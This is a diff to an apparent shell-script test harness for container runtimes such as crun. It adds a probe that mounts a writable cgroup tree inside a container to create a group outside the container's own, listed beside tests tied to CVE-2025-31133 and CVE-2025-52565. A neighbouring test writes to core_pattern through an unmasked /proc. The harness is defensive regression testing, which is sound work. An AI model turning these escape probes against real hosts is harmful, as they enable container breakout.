@@ -44,8 +44,10 @@ ln -s pts/ptmx $work/dev/ptmx
 ln -s /proc/self/fd $work/dev/fd
 mount --move $work/dev /dev
 # crun wants one of the two kinds of groups, this machine may have both.
+covered=
 if [ "$(stat -fc %T /sys/fs/cgroup)" != cgroup2fs ]; then
     mount -t cgroup2 cgroup2 /sys/fs/cgroup
+    covered=1
 fi
 
 # --- one container ------------------------------------------------------------
@@ -412,6 +414,20 @@ attack_groups() { # the groups of the caller
     setpriv --groups 4444 "$program" --root $work/states run -b $bundle "$id" | grep 4444
 }
 
+attack_caller_groups() { # a group beside the container's own, in every tree of the machine
+    [ -z "$covered" ] || umount /sys/fs/cgroup
+    config "for t in /sys/fs/cgroup /sys/fs/cgroup/*; do mkdir \$t/$id-in; done" '' "$dev"', {"destination": "/sys",
+        "type": "tmpfs", "source": "tmpfs"}, {"destination": "/sys/fs/cgroup", "type": "cgroup", "source": "cgroup"}'
+    sed -i 's|{"type": "pid"}|&, {"type": "cgroup"}|' $bundle/config.json
+    run
+    # Below a group with its name it is its own; runtimes may leave that.
+    left=$(find /sys/fs/cgroup -type d -name "$id-in" | grep -v "$id[^/]*/$id-in\$")
+    find /sys/fs/cgroup -depth -type d -name "*$id*" -exec rmdir {} +
+    [ -z "$covered" ] || mount -t cgroup2 cgroup2 /sys/fs/cgroup
+    echo "left: $left"
+    [ -n "$left" ]
+}
+
 attack_no_pivot_proc() { # a procfs without masks, while the host's is still below
     config "unshare -mrpf sh -c 'mount -t proc -o nosuid,nodev,noexec none /proc && (: >> /proc/sys/kernel/core_pattern) && echo bare'" \
         "$(caps '"CAP_SETFCAP"')" "$dev" ', "maskedPaths": ["/proc/keys"], "readonlyPaths": ["/proc/sys"]'
@@ -510,6 +526,7 @@ row null_mode CVE-2025-31133 "change the host's /dev/null by a masked path"
 row console_link CVE-2025-52565 "/dev/console is a link out of the image"
 row device_link CVE-2025-52565 "/dev is a link to a volume of the host: devices in it"
 row device_volume - "a volume over a /dev of its own: devices in it"
+row caller_groups - "/sys/fs/cgroup, writable: a group beside the container's own"
 row no_pivot_proc - "\`--no-pivot\`: mount a /proc without masks in a user namespace"
 row no_device_rules - "open a disk, where config.json has no rules for devices"
 row passwd_pipe - "/etc/passwd is a pipe: hold the runtime up"
